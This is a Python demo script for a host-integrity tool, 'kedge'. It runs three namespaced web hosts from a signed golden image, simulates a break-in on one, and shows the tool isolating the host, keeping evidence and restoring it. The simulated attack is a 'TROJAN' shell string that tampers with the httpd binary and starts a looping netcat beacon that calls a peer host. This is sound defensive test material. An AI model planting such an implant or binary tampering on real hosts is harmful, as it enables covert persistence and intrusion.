"""What becomes of a host that was changed, shown: three web hosts behind a peer, and one of them gets another program.

Each host has namespaces of its own (network, processes, mounts, name) on this machine, and a root that is made of one
signed golden image. `kedge sensor` and `kedge agent` run on each, `kedge run` on the management network, which is the
demo's own; `kedge dev-kafka` stands in for Kafka. Nothing of this machine's network is touched, and everything but the
files ends with the demo.
"""

import argparse
import asyncio
import datetime
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "demo"))
import showing  # noqa: E402
from showing import DIM, PLAIN, Kedge, Processes, answers, headline, ignore_signals, say, wait_for  # noqa: E402
from wire import wire  # noqa: E402

MANAGEMENT, PEER = "10.66.0.1", "10.66.0.99"
HOSTS = {"web-1": "10.66.0.11", "web-2": "10.66.0.12", "web-3": "10.66.0.13"}
ROOT = "/srv/web/root"
MANIFEST, KEY = "/srv/golden/web.manifest", "/srv/golden/golden.key.pub"
RULE = "host.binary-replaced"


def run(*command):
    done = subprocess.run(command, text=True, capture_output=True)
    if done.returncode != 0:
        raise SystemExit(f"demo: {' '.join(command)}: {done.stdout}{done.stderr}")
    return done.stdout


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    return path


def write_json(path, value):
    """JSON is YAML, so configurations can be written as it."""
    return write(path, json.dumps(value, indent=2) + "\n")


def make_keys(directory):
    """Of whoever signs images, of the audit log, and of the engine, whom agents obey."""
    for name in ("golden", "audit", "engine"):
        run(ARGS.kedge, "audit", "keygen", "--origin", f"{name}.acme.example", "--output",
            os.path.join(directory, name + ".key"))


def make_golden_image(directory, kedge):
    """A web server and a shell, all of it busybox, signed."""
    golden = os.path.join(directory, "golden")
    image = os.path.join(golden, "image")
    busybox = shutil.which("busybox") or shutil.which("true")  # the latter where nothing of it is run
    for folder in ("bin", "usr/sbin", "var/www", "proc", "dev", "run", "tmp"):
        os.makedirs(os.path.join(image, folder))
    for path in ("bin/busybox", "usr/sbin/httpd"):
        shutil.copy(busybox, os.path.join(image, path))
    os.symlink("busybox", os.path.join(image, "bin/sh"))
    write(os.path.join(image, "var/www/index.html"), "<h1>acme</h1>\n")
    shutil.copy(os.path.join(directory, "golden.key.pub"), golden)
    run(kedge, "baseline", "create", "--root", image, "--output", os.path.join(golden, "web.manifest"),
        "--key", os.path.join(directory, "golden.key"))


KAFKA = {"session.timeout.ms": "6000", "fetch.wait.max.ms": "10"}  # what the stand-in for Kafka needs


def sensor_configuration(name, broker, root, golden="/srv/golden"):
    return {"version": 1, "host": name, "data": "sensor", "heartbeat": "10s",
            "roots": [{"path": root, "as": "/", "baseline": f"{golden}/web.manifest",
                       "keys": [f"{golden}/golden.key.pub"]}],
            "kafka": {"brokers": [broker], "topic": "host-events"},
            "ports": {"every": "0s"}, "processes": {"every": "0s"}}


def write_host(directory, name, broker):
    """What lies on a host: its key, the engine's public one, and what its agent and its sensor are told."""
    place = os.path.join(directory, name)
    os.makedirs(place)
    run(ARGS.kedge, "agent", "keygen", "--host", name, "--output", os.path.join(place, "agent.key"))
    write_json(os.path.join(place, "agent.yaml"), {
        "version": 1, "host": name, "data": "agent", "key": "agent.key",
        "engines": [{"key": "../engine.key.pub",
                     "allow": ["host.quarantine", "host.capture_evidence", "host.replace"]}],
        "kafka": {"brokers": [broker], "properties": {"fetch.wait.max.ms": "10"}},
        "roots": [{"name": "web", "directory": "/srv/web", "image": "/srv/golden/image", "manifest": MANIFEST, "keys": [KEY],
                   "start": ["/usr/sbin/httpd", "-f", "-p", "80", "-h", "/var/www"],
                   "health": ["/bin/busybox", "wget", "-q", "-O", "/dev/null", "http://127.0.0.1/"]}]})
    write_json(os.path.join(place, "sensor.yaml"), sensor_configuration(name, broker, ROOT))


def write_rules(directory, root):
    """The shipped rules, told what an isolated host still reaches, and which tree has a golden image."""
    rules = os.path.join(directory, "rules")
    shutil.copytree(os.path.join(os.path.dirname(os.path.dirname(HERE)), "rules"), rules)
    write_json(os.path.join(rules, "lib/host/isolation.json"),
               {"lifeline": [f"{MANAGEMENT}:9092"], "management": [MANAGEMENT], "roots": {root: "web"}})


def write_engine(directory, broker, mode, port):
    configuration = {
        "version": 1, "data": "data", "rules": {"directory": "rules", "modes": {RULE: mode}},
        "sources": [{"name": "sensors", "kind": "kafka", "brokers": [broker], "topics": ["host-events"], "group": "kedge",
                     "start": "earliest", "properties": KAFKA}],
        "aws": {"region": "us-east-1", "principals": ["arn:aws:iam::123456789012:role/kedge"]},
        "notify": {"channels": {"security": {"kind": "kafka", "brokers": [broker], "topic": "notices"}}},
        "audit": {"keys": ["audit.key"], "publish_to": [{"file": "checkpoints"}]}, "api": {"listen": f"127.0.0.1:{port}"}}
    if mode == "enforce":
        configuration["hosts"] = {"brokers": [broker], "key": "engine.key", "keys": [f"{name}/agent.key.pub" for name in HOSTS],
                                  "properties": {"fetch.wait.max.ms": "10"}}
    return write_json(os.path.join(directory, "kedge.yaml"), configuration)


def start_kafka(processes, directory):
    address = os.path.join(directory, "kafka.address")
    topics = [word for topic in ("host-events", "host-commands", "host-outcomes", "notices") for word in ("--topic", topic + ":1")]
    processes.start("kafka", [ARGS.kedge, "dev-kafka", *topics, "--address-file", address])
    wait_for("the stand-in for Kafka", lambda: os.path.exists(address) and os.path.getsize(address))
    return open(address).read().strip()


class Machine:
    """Namespaces of their own with what runs in them, seen from the management network."""

    def __init__(self, processes, name, address, spaces, command):
        self.name, self.address = name, address
        self.outer = processes.start(name, ["unshare", "--net", *spaces, "--fork", "--kill-child", *command]).pid
        self.inner = wait_for(f"the start of {name}", self.child)
        run("ip", "link", "add", name, "type", "veth", "peer", "name", "eth0", "netns", str(self.inner))
        run("ip", "link", "set", name, "master", "lan", "up")
        for words in (("link", "set", "lo", "up"), ("address", "add", address + "/24", "dev", "eth0"),
                      ("link", "set", "eth0", "up")):
            run("nsenter", "--target", str(self.inner), "--net", "ip", *words)

    def child(self):
        """Once it is in namespaces of its own."""
        try:
            with open(f"/proc/{self.outer}/task/{self.outer}/children") as file:
                child = int(file.read().split()[0])
            return os.readlink(f"/proc/{child}/ns/net") != os.readlink("/proc/self/ns/net") and child
        except (OSError, IndexError):
            return 0

    def within(self, *command):
        """On the host itself, where its agent runs: what it said, and whether all was well."""
        done = subprocess.run(["nsenter", "--target", str(self.inner), "--mount", "--net", "--uts", "--ipc", "--pid", *command],
                              text=True, capture_output=True)
        return done.stdout + done.stderr, done.returncode == 0

    def web_server(self):
        """The number of the first process of its root; 0: it does not run."""
        network = os.readlink(f"/proc/{self.inner}/ns/net")
        for number in filter(str.isdigit, os.listdir("/proc")):
            try:
                if os.readlink(f"/proc/{number}/ns/net") != network:
                    continue
                with open(f"/proc/{number}/status") as file:
                    status = dict(line.split(":", 1) for line in file if ":" in line)
                if status["Name"].strip() == "httpd" and status["NSpid"].split()[-1] == "1":
                    return int(number)
            except OSError:
                continue
        return 0

    def within_root(self, script):
        """As somebody who has got into the web server."""
        return run("nsenter", "--target", str(self.web_server()), "--mount", "--net", "--uts", "--ipc", "--pid", "/bin/busybox", "sh",
                   "-c", script)


class Peer:
    """What the peer has seen."""

    def __init__(self, path):
        self.path = path

    def lines(self):
        if not os.path.exists(self.path):
            return []
        with open(self.path) as file:
            return [json.loads(line) for line in file if line.endswith("\n")]

    def serves(self, name):
        seen = [line["served"] for line in self.lines() if line.get("host") == name]
        return bool(seen) and seen[-1]

    def changes(self, name, since):
        return [(line["t"], line["served"]) for line in self.lines() if line.get("host") == name and line["t"] >= since]

    def calls(self):
        return [line["t"] for line in self.lines() if "call" in line]


def management_reaches(address):
    try:
        with socket.create_connection((address, 22), timeout=1) as ssh:
            return ssh.recv(32).decode().strip()
    except OSError:
        return ""


def show_hosts(machines, peer):
    for machine in machines.values():
        page = "answers" if peer.serves(machine.name) else "does not answer"
        say(f"  {machine.name}  {machine.address}   the peer: its page {page:<18} management: port 22 "
            f"{'answers' if management_reaches(machine.address) else 'does not answer'}")


def wire_in_background(here, there):
    async def forever():
        server = await wire(here, there)
        await server.serve_forever()

    threading.Thread(target=lambda: asyncio.run(forever()), daemon=True).start()


def make_network():
    run("ip", "link", "set", "lo", "up")
    run("ip", "link", "add", "lan", "type", "bridge")
    run("ip", "address", "add", MANAGEMENT + "/24", "dev", "lan")
    run("ip", "link", "set", "lan", "up")


def start_machines(processes, directory, broker):
    port = broker.rsplit(":", 1)[1]
    wire_in_background((MANAGEMENT, 9092), ("127.0.0.1", int(port)))
    machines = {}
    for name, address in HOSTS.items():
        write_host(directory, name, broker)
        command = [sys.executable, "-B", os.path.join(HERE, "machine.py"), address, MANAGEMENT, port, os.path.join(directory, name), ARGS.kedge]
        machines[name] = Machine(processes, name, address, ["--mount", "--uts", "--ipc", "--pid", "--mount-proc"], command)
        machines[name].within("hostname", name)
    seen = os.path.join(directory, "peer.jsonl")
    Machine(processes, "peer", PEER, [], [sys.executable, "-B", os.path.join(HERE, "peer.py"), seen,
                                        *(f"{name}={address}" for name, address in HOSTS.items())])
    return machines, Peer(seen)


TROJAN = """cd /usr/sbin && cp httpd .new && echo 'and something more' >> .new && mv .new httpd
(while :; do echo web-2 | /bin/busybox nc -w 1 {peer} 4444; /bin/busybox sleep 0.2; done) < /dev/null > /dev/null 2>&1 &"""


def attack(machine):
    say(f"{DIM}web-2# cp /usr/sbin/httpd .new; echo 'and something more' >> .new; mv .new /usr/sbin/httpd{PLAIN}")
    say(f"{DIM}web-2# while :; do echo web-2 | nc {PEER} 4444; sleep 0.2; done &      # an implant that calls home{PLAIN}")
    began = time.time()
    machine.within_root(TROJAN.format(peer=PEER))
    return began


def remediation(kedge):
    rows = kedge.json("audit", "list", "--kind", "plan", "--rule", RULE)
    return rows[0]["remediation"] if rows else None


def state_of(kedge, number):
    return kedge.json("remediation", "show", number)["state"]


class Management:
    """Reaches for one host's port 22 again and again, as an administrator would while it is cut off."""

    def __init__(self, address):
        self.address, self.tries = address, []
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            began = time.time()
            self.tries.append((began, bool(management_reaches(self.address))))
            time.sleep(0.05)

    def between(self, begin, end):
        return [reached for at, reached in self.tries if begin <= at <= end]


def seconds_of(row):
    return datetime.datetime.fromisoformat(row["at"].replace("Z", "+00:00")).timestamp()


def show_timeline(kedge, machine, peer, management, began, number):
    changes = peer.changes(machine.name, began)
    gone = next(t for t, served in changes if not served)
    back = next((t for t, served in changes if served and t > gone), time.time())
    moments = [(began, "web-2   its httpd is replaced, and the implant started"),
               (gone, "peer    web-2 answers no more"),
               (back, "peer    web-2 serves again"),
               (peer.calls()[-1], f"peer    the last of {len(peer.calls())} calls of the implant")]
    for row in kedge.json("audit", "list", "--remediation", number):
        if row["kind"] in ("plan", "outcome", "confirmation"):
            moments.append((seconds_of(row), f"kedge   {row['summary']}"))
    for at, what in sorted(moments):
        say(f"  {at - began:+6.2f} s  {what}")
    reached = management.between(gone, back)
    say(f"\nfor {back - gone:.1f} s the peer could not reach web-2; management could: port 22 answered {sum(reached)} of {len(reached)} times")


def show_evidence(machine, directory, number):
    headline("what was kept, on web-2, before anything was replaced")
    evidence = os.path.join(directory, machine.name, "agent/host/evidence", number + ".web")
    say(f"{DIM}$ ls {os.path.relpath(evidence)}; sha256sum -c SHA256SUMS{PLAIN}")
    say(run("ls", evidence).rstrip().replace("\n", "  "))
    run("sh", "-c", f"cd '{evidence}' && sha256sum --quiet -c SHA256SUMS")
    processes = [json.loads(line) for line in open(os.path.join(evidence, "processes.jsonl"))]
    say(f"sha256sum -c SHA256SUMS: all good; files/ has the program as it was left, processes.jsonl what ran: {len(processes)} "
        "processes, the implant among them")


def show_replacement(machine):
    headline("the root that took its place, held against the signed manifest")
    say(f"{DIM}web-2$ kedge baseline verify --root {ROOT} {MANIFEST} --key {KEY}{PLAIN}")
    verified, good = machine.within(ARGS.kedge, "baseline", "verify", "--root", ROOT, MANIFEST, "--key", KEY)
    say(verified.rstrip() or "(nothing differs)")
    say(f"{DIM}web-2$ cat /srv/web/generations/1/drift.txt      # what the former one had changed; kept, read-only{PLAIN}")
    say(machine.within("cat", "/srv/web/generations/1/drift.txt")[0].rstrip())
    if not good:
        raise SystemExit("demo: the new root is not what its manifest says")


def show_story(kedge, number):
    headline("the story, from the audit trail")
    kedge.show("audit", "show", number)
    headline("and nobody has touched the trail since")
    log = os.path.join(os.path.dirname(kedge.configuration), "data/audit")
    say(f"{DIM}$ kedge audit verify {os.path.relpath(log)} --key {os.path.relpath(ARGS.directory)}/audit.key.pub{PLAIN}")
    say(run(ARGS.kedge, "audit", "verify", log, "--key", os.path.join(ARGS.directory, "audit.key.pub")).rstrip())


def start_engine(processes, directory, broker, mode):
    port = showing.free_port()
    kedge = Kedge(ARGS.kedge, write_engine(directory, broker, mode, port), None)
    processes.start("kedge", [ARGS.kedge, "run", "-c", kedge.configuration])
    wait_for("kedge's readiness", lambda: answers(f"http://127.0.0.1:{port}/readyz"))
    return kedge


def watches(directory, name):
    try:
        with open(os.path.join(directory, name, "sensor.log")) as file:
            return " watches " in file.read()
    except FileNotFoundError:
        return False


def play(processes, directory):
    headline("a golden image, signed; three hosts that run from it, each with a sensor and an agent; and kedge")
    make_network()
    make_keys(directory)
    make_golden_image(directory, ARGS.kedge)
    broker = start_kafka(processes, directory)
    machines, peer = start_machines(processes, directory, broker)
    write_rules(directory, ROOT)
    kedge = start_engine(processes, directory, broker, "enforce")
    for name in HOSTS:
        wait_for(f"{name}'s page", lambda name=name: peer.serves(name))
        wait_for(f"{name}'s sensor", lambda name=name: watches(directory, name))
    show_hosts(machines, peer)

    headline("somebody gets into web-2, and replaces the program that it serves with")
    machine, management = machines["web-2"], Management(HOSTS["web-2"])
    began = attack(machine)
    number = wait_for("the remediation", lambda: remediation(kedge))
    wait_for("the end of it", lambda: state_of(kedge, number) == "confirmed")
    wait_for("web-2's page", lambda: peer.serves("web-2"))
    headline("seconds later")
    show_timeline(kedge, machine, peer, management, began, number)
    show_evidence(machine, directory, number)
    show_replacement(machine)
    headline("all is well again")
    show_hosts(machines, peer)
    show_story(kedge, number)


def play_without(processes, directory, why):
    """What needs no namespaces: the change is seen, and it is told what would be done about it."""
    say(f"The whole of it takes root and Linux namespaces, and this is not allowed here: {why}")
    say("What is shown instead: a sensor sees the change, and kedge, in mode shadow, tells what it would do.")
    headline("a golden image, signed; a tree that was made of it, and a sensor; and kedge")
    make_keys(directory)
    make_golden_image(directory, ARGS.kedge)
    broker = start_kafka(processes, directory)
    root = os.path.join(directory, "root")
    shutil.copytree(os.path.join(directory, "golden/image"), root, symlinks=True)
    write_rules(directory, root)
    kedge = start_engine(processes, directory, broker, "shadow")
    os.makedirs(os.path.join(directory, "web-2"))
    golden = os.path.join(directory, "golden")
    configuration = write_json(os.path.join(directory, "web-2/sensor.yaml"), {
        **sensor_configuration("web-2", broker, root, golden), "watch": "inotify"})
    processes.start("web-2/sensor", [ARGS.kedge, "sensor", "-c", configuration])
    wait_for("the sensor", lambda: watches(directory, "web-2"))
    headline("somebody replaces the program that it serves with")
    with open(os.path.join(root, "usr/sbin/httpd"), "ab") as file:
        file.write(b"and something more\n")
    rows = wait_for("kedge's word", lambda: kedge.json("audit", "list", "--kind", "suppression", "--rule", RULE))
    kedge.show("audit", "list", "--kind", "suppression")
    headline("what it would have done")
    for phase in ("isolate", "revert", "replace"):
        for step in rows[0]["record"]["plan"][phase]:
            say(f"  {phase:<8}  {step['action']} {json.dumps(step['args'])}")


def main():
    directory = showing.LOGS = ARGS.directory
    shutil.rmtree(directory, ignore_errors=True)
    os.makedirs(directory)
    processes = Processes(directory)
    try:
        if ARGS.without:
            play_without(processes, directory, ARGS.without)
        else:
            play(processes, directory)
    finally:
        try:
            ignore_signals()
        finally:
            processes.stop()
    relative = os.path.relpath(directory)
    headline("yours to look at")
    say(f"""All of it has ended; its files are in {relative}:
  kedge.yaml, rules/       what the engine was told               data/ledger.db, data/audit   what it has on record
  web-2/agent.yaml         what a host's agent was told           web-2/agent/commands.jsonl   what it was asked to do
  web-2/agent/host/evidence                                       what was kept of the host that was changed

Type next:
  build/kedge audit list -c {relative}/kedge.yaml
  build/kedge audit why {RULE} --from 2026-01-01 -c {relative}/kedge.yaml""")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--kedge", required=True)
    parser.add_argument("--directory", required=True)
    parser.add_argument("--without", metavar="WHY", help="shows what needs no namespaces")
    ARGS = parser.parse_args()
    main()
